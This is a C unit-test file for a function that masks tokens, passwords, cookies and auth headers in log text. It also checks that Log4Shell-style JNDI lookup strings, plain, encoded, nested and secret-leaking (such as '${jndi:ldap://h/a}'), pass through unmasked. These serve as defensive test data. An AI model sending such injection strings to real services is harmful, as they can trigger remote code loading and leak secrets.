/* Masking credentials. */
#include "text_test.h"
#include "text/printable.h"

static ct_str mask(ct_str in)
{
    struct ct_buf b;
    ct_str s = {NULL, 0};
    ct_buf_init(&b, arena, 1u << 20);
    ct_mask_secrets(&b, in);
    assert_int_equal(ct_buf_str(&b, &s), CT_OK);
    return s;
}

static const struct {
    int line;
    ct_str in, want;
} rows[] = {
#define R(in, want) {__LINE__, CT_STR_INIT(in), CT_STR_INIT(want)}
#define SAME(in) R(in, in)
    /* queries and forms */
    R("/a?token=abc&x=1", "/a?token=***&x=1"), R("?x=1&access_token=a.b-c", "?x=1&access_token=***"),
    R("GET /?key=a HTTP/1.1", "GET /?key=*** HTTP/1.1"), R("?userPassword=a%26b&c=d", "?userPassword=***&c=d"),
    R("/cb?code=abc&state=x", "/cb?code=***&state=x"), R("user[password]=x&y", "user[password]=***&y"),
    R("user%5Bpassword%5D=x&y", "user%5Bpassword%5D=***&y"), R("/a;jsessionid=1F2?x=1", "/a;jsessionid=***"),
    R("?u=%2Fcb%3Ftoken%3Dabc%26x%3D1", "?u=%2Fcb%3Ftoken%3D***%26x%3D1"), R("X-Amz-Signature=a1&b", "X-Amz-Signature=***&b"),
    R("?apiKey=1&APIKey=2&api-key=3", "?apiKey=***&APIKey=***&api-key=***"), R("?a=1&amp;sig=x", "?a=1&amp;sig=***"),
    SAME("?token=&x=1"), SAME("?tokens=1&keyword=abc&monkey=x&primary_key=7"), SAME("/token/abc"), SAME("status code: 200"),
    SAME("country_code=de"), SAME("mysecretary=x"), SAME("token"), SAME("token="), SAME("token ="), SAME(""),
    /* JSON, also inside other text */
    R("{\"token\":\"a\\\"b\",\"x\":1}", "{\"token\":\"***\",\"x\":1}"), R("{'pwd': 'x', 'a': 1}", "{'pwd': '***', 'a': 1}"),
    R("{\\\"token\\\":\\\"a\\\\\\\"b\\\",\\\"x\\\":1}", "{\\\"token\\\":\\\"***\\\",\\\"x\\\":1}"),
    R("{\\x22secret\\x22:\\x22a\\x5C\\x22b\\x22,\\x22c\\x22:1}", "{\\x22secret\\x22:\\x22***\\x22,\\x22c\\x22:1}"),
    R("\"url\":\"/?a=1\\u0026token=x\\u0026b=2\"", "\"url\":\"/?a=1\\u0026token=***\\u0026b=2\""),
    R("{\"otp\":1234}", "{\"otp\":***}"), R("\"password\"=>\"x\"", "\"password\"=>\"***\""), R("a\\ntoken: x\\nb", "a\\ntoken: ***\\nb"),
    SAME("{\"token\":null,\"session\":true,\"auth\":{\"a\":\"b\"}}"), R("{\"auth\":{\"pass\":\"b\"}}", "{\"auth\":{\"pass\":\"***\"}}"),
    R("{\"token\":\"cut of", "{\"token\":\"***"),
    /* headers and cookies */
    R("Cookie: a=b; PHPSESSID=xyz; c=d", "Cookie: a=b; PHPSESSID=***; c=d"), R("laravel_session=x; connect.sid=s%3Ay", "laravel_session=***; connect.sid=***"),
    R("Authorization: Bearer abc.def", "Authorization: Bearer ***"), R("authorization: \"Basic dXNlcg==\"", "authorization: \"Basic ***\""),
    R("Proxy-Authorization: xyz", "Proxy-Authorization: ***"), R("X-Api-Key: abc", "X-Api-Key: ***"), R("X-Auth-Token:abc", "X-Auth-Token:***"),
    R("h=Bearer%20abc123&x", "h=Bearer%20***&x"), R("sent Basic dXNlcjpwYXNz then", "sent Basic *** then"), R("token: Bearer abc", "token: Bearer ***"),
    SAME("Basic authentication failed"), SAME("the bearer of news"), SAME("Bearer"), SAME("Bearer "),
    /* URLs */
    R("http://user:pw@h/x", "http://user:***@h/x"), R("redis://:pw@h:1/0?x=1", "redis://:***@h:1/0?x=1"), R("https://u:p@q@h/", "https://u:***@h/"),
    R("git clone https://ghx_0123456789abcdefghij@h/r", "git clone https://***@h/r"), SAME("http://user@h/"), SAME("http://h:80/a@b"),
    R("https://h/?token=x", "https://h/?token=***"), SAME("token://h/"),
    /* the finding stays */
    SAME("?token=${jndi:ldap://h/a}"), SAME("?token=%24%7Bjndi:ldap://h/a%7D"), SAME("?token=%2524%257Bjndi%7d"), SAME("token=abc${jndi:x}def"),
    SAME("Authorization: Bearer ${jndi:ldap://u:p@h/?token=x}"), SAME("{\"key\":\"\\u0024{jndi:x}\"}"), SAME("{\"key\":\"a \\x24\\x7bjndi:x\""),
    SAME("ldap://${env:SECRET:-x}:pw@h/a"), SAME("${env:SECRET_KEY:-x}"), SAME("${${::-j}ndi:ldap://x/${sys:auth.key}?key=1}"), SAME("${a token=x"),
    R("${x} token=y", "${x} token=***"), R("${a${b}key=1}&key=2", "${a${b}key=1}&key=***"), R("Basic dXNlcjpwYXNz${x}", "Basic dXNlcjpwYXNz${x}"),
#undef SAME
#undef R
};

static void rows_mask(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        struct edge e = edge_new(rows[i].in);
        assert_str_equal(mask(e.input), rows[i].want, rows[i].line);
        edge_free(&e);
        for (size_t n = 0; n < rows[i].in.n; n++) {
            e = edge_new((ct_str){rows[i].in.p, n});
            (void)mask(e.input);
            edge_free(&e);
        }
    }
}

/* Whatever stands around a lookup, its text comes out whole, also when what was masked is masked again. */
static void lookups_survive(void **state)
{
    (void)state;
    ct_str lookup = CT_STR("${jndi:ldap://u:p@h/${env:TOKEN:-x}?token=y&Bearer abc123}");
    struct rng r = rng_new("lookups_survive");
    for (int round = 0; round < 20000; round++) {
        struct ct_arena_mark m = ct_arena_mark(arena);
        struct ct_buf b;
        ct_buf_init(&b, arena, 1u << 16);
        ct_buf_add(&b, random_text(&r, 60));
        if (b.n && b.p[b.n - 1] == '\\') b.n--;
        ct_buf_add(&b, lookup);
        ct_buf_add(&b, random_text(&r, 60));
        ct_str once = mask(ct_buf_view(&b));
        if (ct_str_find(once, lookup) == CT_STR_NONE) print_error("in: %.*s\nout: %.*s\n", (int)b.n, (char *)b.p, CT_STR_ARG(once));
        assert_true(ct_str_find(once, lookup) != CT_STR_NONE);
        assert_true(ct_str_find(mask(once), lookup) != CT_STR_NONE);
        ct_arena_reset(arena, m);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(rows_mask),
        cmocka_unit_test(lookups_survive),
    };
    return cmocka_run_group_tests(tests, set_up, tear_down);
}
